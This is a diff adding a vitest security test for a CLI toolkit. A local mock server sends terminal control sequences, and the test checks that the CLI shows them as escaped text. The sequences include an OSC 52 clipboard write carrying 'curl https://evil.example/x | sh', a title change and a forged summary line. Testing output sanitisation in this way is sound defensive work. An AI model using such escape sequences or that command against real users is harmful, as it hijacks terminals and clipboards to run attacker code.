@@ -1,0 +1,186 @@
+import { execFile } from 'node:child_process'
+import { mkdtemp, readFile, rm } from 'node:fs/promises'
+import { createServer, type Server } from 'node:http'
+import type { AddressInfo } from 'node:net'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import { fileURLToPath } from 'node:url'
+import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest'
+import { runCommandLine } from '../src/cli/main'
+
+// A server built to attack the toolkit that tests it (security review 2, docs/security.md): its
+// every answer carries terminal control sequences, in a message and as a JSON key. Whatever the
+// toolkit prints of it must reach the reader's terminal as visible text, never as commands.
+
+const FORGED = 'contract: 999 passed, 0 failed, 0 skipped'
+const CLIPBOARD = Buffer.from('curl https://evil.example/x | sh').toString('base64')
+/** An OSC 0 title, an OSC 52 clipboard write, an erased line with a forged summary, hidden text. */
+const HOSTILE = `\u001b]0;pwned\u0007\u001b]52;c;${CLIPBOARD}\u0007\u001b[2K\r${FORGED}\n${FORGED}\u001b[8m`
+
+const CLI = fileURLToPath(new URL('../src/cli/bin.ts', import.meta.url))
+
+let server: Server
+let url: string
+
+beforeAll(async () => {
+  server = createServer((request, response) => {
+    request.resume()
+    if (request.url === '/api/health') {
+      response.writeHead(200, { 'content-type': 'application/json' })
+      response.end(
+        JSON.stringify({
+          status: 'ok',
+          version: '1',
+          uptimeSeconds: 1,
+          time: new Date().toISOString(),
+        }),
+      )
+      return
+    }
+    response.writeHead(401, { 'content-type': 'application/json', [`x-${'a'.repeat(3)}`]: 'b' })
+    response.end(JSON.stringify({ message: HOSTILE, code: HOSTILE, [HOSTILE]: HOSTILE }))
+  })
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
+  url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
+})
+
+afterAll(async () => {
+  await new Promise((resolve) => server.close(resolve))
+})
+
+/** What a terminal must never receive from a target: ESC, BEL, CR and the other controls. */
+function expectNoControlSequences(output: string): void {
+  // biome-ignore lint/suspicious/noControlCharactersInRegex: these are what must not be there
+  expect(output).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/)
+  // The forged summary line never stands as a line of its own.
+  expect(output.split('\n').filter((line) => line.startsWith(FORGED))).toEqual([])
+}
+
+/** The CLI as a user runs it, its real stdout and stderr bytes. */
+function runCliProcess(args: string[]) {
+  return new Promise<{ code: number | null; stdout: string; stderr: string }>((resolve) => {
+    execFile(
+      process.execPath,
+      ['--import', 'tsx', '--conditions=@devenv/source', CLI, ...args],
+      { timeout: 300_000, env: { ...process.env, DEVENV_CONTRACT_DEBUG: '' } },
+      (error, stdout, stderr) =>
+        resolve({
+          code: error ? (typeof error.code === 'number' ? error.code : null) : 0,
+          stdout,
+          stderr,
+        }),
+    )
+  })
+}
+
+/** The command line in process; what it printed on stdout and stderr. */
+async function runCli(args: string[]) {
+  const lines: string[] = []
+  const log = vi.spyOn(console, 'log').mockImplementation((...parts) => {
+    lines.push(parts.join(' '))
+  })
+  const error = vi.spyOn(console, 'error').mockImplementation((...parts) => {
+    lines.push(parts.join(' '))
+  })
+  try {
+    const code = await runCommandLine(args)
+    return { code, output: lines.join('\n') }
+  } finally {
+    log.mockRestore()
+    error.mockRestore()
+  }
+}
+
+describe('a server that writes terminal control sequences into its answers', () => {
+  it('check: every line printed shows them as text, and the real summary line ends the run', async () => {
+    const folder = await mkdtemp(join(tmpdir(), 'contract-hostile-'))
+    try {
+      const outcome = await runCliProcess([
+        'check',
+        '--base-url',
+        url,
+        '--mailbox',
+        'off',
+        '--only',
+        'signIn,requestPasswordReset,findings',
+        '--report-dir',
+        folder,
+      ])
+      expect(outcome.code, outcome.stderr).toBe(1)
+      expectNoControlSequences(outcome.stdout + outcome.stderr)
+      // The server's text is there, made visible.
+      expect(outcome.stdout).toContain('\\x1b]52;c;')
+      expect(outcome.stdout.trim().split('\n').at(-1)).toMatch(
+        /^contract: \d+ passed, [1-9]\d* failed/,
+      )
+      // junit.xml shows them as the terminal does (a CI page renders it).
+      const junit = await readFile(join(folder, 'junit.xml'), 'utf8')
+      // biome-ignore lint/suspicious/noControlCharactersInRegex: these are what must not be there
+      expect(junit).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/)
+      expect(junit).toContain('\\x1b]52;c;')
+    } finally {
+      await rm(folder, { recursive: true, force: true })
+    }
+  })
+
+  it('check: an account refused with that message is one usage line, shown as text', async () => {
+    const outcome = await runCli([
+      'check',
+      '--base-url',
+      url,
+      '--email',
+      'someone@example.com',
+      '--password',
+      'Some-Password-1',
+    ])
+    expect(outcome.code).toBe(2)
+    expectNoControlSequences(outcome.output)
+    expect(outcome.output).toContain('\\x1b]0;pwned')
+  })
+
+  it('fuzz: the refusal of its accounts is one line, shown as text', async () => {
+    const outcome = await runCli([
+      'fuzz',
+      '--base-url',
+      url,
+      '--email',
+      'someone@example.com',
+      '--password',
+      'Some-Password-1',
+      '--second-email',
+      'other@example.com',
+      '--second-password',
+      'Other-Password-1',
+      '--quiet',
+    ])
+    expect(outcome.code).toBe(2)
+    expectNoControlSequences(outcome.output)
+    expect(outcome.output).toMatch(
+      /^devenv-contract: fuzz: the account someone@example\.com does not sign in: 401 .*\\x1b\]0;pwned/m,
+    )
+  })
+
+  it('proxy: its violation lines show them as text', async () => {
+    const dir = await mkdtemp(join(tmpdir(), 'contract-hostile-proxy-'))
+    const lines: string[] = []
+    const log = vi.spyOn(console, 'log').mockImplementation((...parts) => {
+      lines.push(parts.join(' '))
+    })
+    try {
+      const { proxyCommand } = await import('../src/cli/proxy')
+      const exit = proxyCommand([
+        ...['--upstream', url, '--port', '0', '--duration', '2', '--report-dir', dir],
+      ])
+      await vi.waitFor(() => expect(lines[0]).toMatch(/^proxy: http/), { timeout: 60_000 })
+      const address = /^proxy: (\S+)/.exec(lines[0] as string)?.[1] as string
+      await (await fetch(`${address}/api/user/profile`)).text()
+      expect(await exit).toBe(1)
+      const output = lines.join('\n')
+      expectNoControlSequences(output)
+      expect(output).toMatch(/^violation: getProfile /m)
+    } finally {
+      log.mockRestore()
+      await rm(dir, { recursive: true, force: true })
+    }
+  })
+})
